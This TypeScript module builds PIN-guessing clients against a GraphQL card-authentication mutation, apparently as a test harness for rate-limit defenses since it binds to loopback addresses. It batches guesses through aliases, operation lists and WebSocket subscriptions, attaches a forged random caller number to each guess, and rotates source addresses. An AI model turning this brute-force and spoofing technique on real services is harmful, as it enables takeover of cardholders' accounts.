import { randomInt } from 'node:crypto';
import { once } from 'node:events';
import { request } from 'node:http';
import { WebSocket } from 'ws';

/** Somebody who tries PINs: many in one request, from an address of its own. */
export interface Guesser {
  /** The codes of the answers, in order. */
  guess(pins: readonly string[]): Promise<string[]>;
  close(): void;
}

export interface GuesserOptions {
  readonly url: string;
  readonly key: string;
  /** In 127.0.0.0/8. */
  readonly localAddress: string;
}

type Answer = { data?: Record<string, { __typename: string; code?: string }>; errors?: unknown };

/** Each alias a caller of its own, as somebody who forges numbers would have it. */
function operationOf(pins: readonly string[]): { query: string } {
  const fields = pins.map(
    (pin, place) =>
      `g${place}: authenticateCard(input: { by: { pin: "${pin}" }, callerNumber: "+3932${randomInt(10_000_000, 99_999_999)}" }) { __typename ... on Error { code } }`,
  );
  return { query: `mutation { ${fields.join(' ')} }` };
}

function codesOf({ data, errors }: Answer): string[] {
  if (errors || !data) throw new Error(JSON.stringify(errors));
  return Object.values(data).map(({ code, __typename }) => code ?? __typename);
}

async function post({ url, key, localAddress }: GuesserOptions, body: unknown): Promise<unknown> {
  const asked = request(url, {
    method: 'POST',
    localAddress,
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
  });
  asked.end(JSON.stringify(body));
  const [response] = await once(asked, 'response');
  let text = '';
  for await (const piece of response) text += piece;
  return JSON.parse(text);
}

/** As aliases of one operation. */
export function overHttp(options: GuesserOptions): Guesser {
  return {
    guess: async (pins) => codesOf((await post(options, operationOf(pins))) as Answer),
    close: () => {},
  };
}

/** As a list of operations with aliases, where the server takes lists. */
export function inLists(options: GuesserOptions, operations: number): Guesser {
  return {
    guess: async (pins) => {
      const each = Math.ceil(pins.length / operations);
      const list = Array.from({ length: operations }, (_, place) =>
        operationOf(pins.slice(place * each, (place + 1) * each)),
      );
      return ((await post(options, list)) as Answer[]).flatMap(codesOf);
    },
    close: () => {},
  };
}

export async function overSocket({ url, key, localAddress }: GuesserOptions): Promise<Guesser> {
  const socket = new WebSocket(url.replace('http', 'ws'), 'graphql-transport-ws', { localAddress });
  await once(socket, 'open');
  const acknowledged = once(socket, 'message');
  socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${key}` } }));
  await acknowledged;
  const waiting = new Map<string, (answer: Answer) => void>();
  socket.on('message', (data) => {
    const { id, type, payload } = JSON.parse(String(data));
    if (type === 'next') waiting.get(id)?.(payload);
  });
  let last = 0;
  return {
    guess: async (pins) => {
      last += 1;
      const id = `${last}`;
      const answered = new Promise<Answer>((resolve) => waiting.set(id, resolve));
      socket.send(JSON.stringify({ id, type: 'subscribe', payload: operationOf(pins) }));
      return codesOf(await answered);
    },
    close: () => socket.close(),
  };
}
